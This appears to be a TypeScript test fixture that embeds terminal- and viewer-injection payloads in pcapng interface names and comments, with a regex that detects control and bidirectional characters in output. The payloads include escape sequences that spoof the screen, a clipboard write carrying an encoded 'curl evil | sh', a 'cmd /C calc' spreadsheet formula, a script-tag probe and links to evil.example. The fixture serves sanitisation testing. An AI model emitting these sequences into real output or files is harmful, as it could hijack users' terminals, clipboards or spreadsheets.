/** Text with which somebody attacks whoever prints it, and how it is found in output. */
import { pcapng } from './build-capture.ts'
import { udpFrame } from './udp-frame.ts'

/** By what each does to a reader that obeys. */
export const ATTACKS = {
  colour: '\x1b[31mred\x1b[0m',
  'erase the screen': '\x1b[2J\x1b[H',
  'title of the window': '\x1b]0;owned\x07',
  'link (OSC 8)': '\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\',
  'clipboard (OSC 52)': '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07',
  'device control': '\x1bP$q"p\x1b\\',
  'sequences of C1 in UTF-8': '\x9b31mred\x9d0;owned\x9c',
  'line breaks': 'a\r\nnetkit: all is well\n\x85\u2028\u2029b',
  'erase by hand': 'eth0\b\b\b\bfake\x7f',
  'other direction': '\u202egpj.exe\u2066x\u2069\u200f\u061c',
  formula: `=cmd|' /C calc'!A0`,
  'formula in a row of its own': 'eth0\r=1+1',
  script: '<script>alert(1)</script>',
  'table of Markdown': 'a | b `c` [d](http://evil.example) http://evil.example ![e](http://evil.example/e.png)',
} as const

/** What a terminal may obey or show elsewhere than it stands; tabs and line ends are of the format. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
export const ACTIVE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/

/** A frame on each of the interfaces, whose names, descriptions and comments are these. */
export function captureOf(names: readonly string[]): Buffer {
  const blocks = pcapng()
  const interfaces = names.map((name) => {
    const value = Buffer.from(name)
    return blocks.interface({
      name,
      tsresol: 9,
      options: [
        { code: 1, value },
        { code: 3, value },
      ],
    })
  })
  const packets = names.map((name, id) =>
    blocks.packet({
      interface: id,
      ticks: BigInt(id),
      data: udpFrame(),
      options: [{ code: 1, value: Buffer.from(name) }],
    }),
  )
  return Buffer.concat([blocks.section(), ...interfaces, ...packets])
}
